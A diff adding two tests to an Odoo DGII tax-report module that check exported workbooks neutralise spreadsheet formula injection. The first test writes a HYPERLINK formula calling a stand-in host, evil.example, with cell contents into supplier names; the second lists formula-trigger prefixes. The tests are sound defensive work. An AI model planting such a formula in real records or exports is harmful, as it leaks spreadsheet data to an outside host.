@@ -1,9 +1,11 @@
 """One rich month, and what DGII reads of it."""
 
 import tempfile
+from io import BytesIO
 from pathlib import Path
 
 import openpyxl
+import xlsxwriter
 
 from odoo.tests import tagged
 
@@ -223,6 +225,48 @@ class TestRichMonth(RichMonthCase):
         self.assertEqual(sheet["C3"].value, "B0107000001")
         self.assertEqual(sheet["H3"].value, 500)
         self.assertEqual(book[book.sheetnames[2]].max_row, 6)
+
+    def test_no_text_of_others_becomes_a_formula_in_a_workbook(self):
+        """Names of suppliers come from their own documents, also from strangers'."""
+        formula = '=HYPERLINK("http://evil.example?"&A1,"Pulse")'
+        self.env.flush_all()
+        self.env.cr.execute(
+            "UPDATE res_partner SET name = %s WHERE id IN (SELECT partner_id"
+            " FROM account_move WHERE company_id = %s AND move_type = 'in_invoice')",
+            [formula, self.company.id],
+        )
+        self.env.invalidate_all()
+        report = self.report("609", DECEMBER, check=True)
+        with tempfile.TemporaryFile() as target:
+            report._write_file("xlsx", target)
+            target.seek(0)
+            book = openpyxl.load_workbook(target)
+        cells = [
+            cell
+            for sheet in book
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.value is not None
+        ]
+        self.assertFalse([cell for cell in cells if cell.data_type == "f"])
+        names = [cell for cell in cells if cell.value == formula]
+        self.assertTrue(names)
+        self.assertTrue(all(cell.quotePrefix for cell in names))
+
+    def test_every_text_that_a_spreadsheet_would_reckon_is_quoted(self):
+        texts = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Pulse"]
+        target = BytesIO()
+        with xlsxwriter.Workbook(target) as book:
+            style = book.add_format()
+            style.set_quote_prefix()
+            sheet = self.env["nu.pos.dgii.workbook"]._sheet(book, {"text": style}, "x")
+            for row, text in enumerate(texts):
+                sheet.write(row, 0, text)
+        found = openpyxl.load_workbook(target)["x"]
+        for row, text in enumerate(texts, 1):
+            cell = found.cell(row, 1)
+            self.assertEqual(cell.data_type, "s", text)
+            self.assertEqual(bool(cell.quotePrefix), text != "Pulse", text)
 
     def test_fiscal_sales_by_rate_and_hour_tie_with_the_607(self):
         report = self.report("607", DECEMBER)
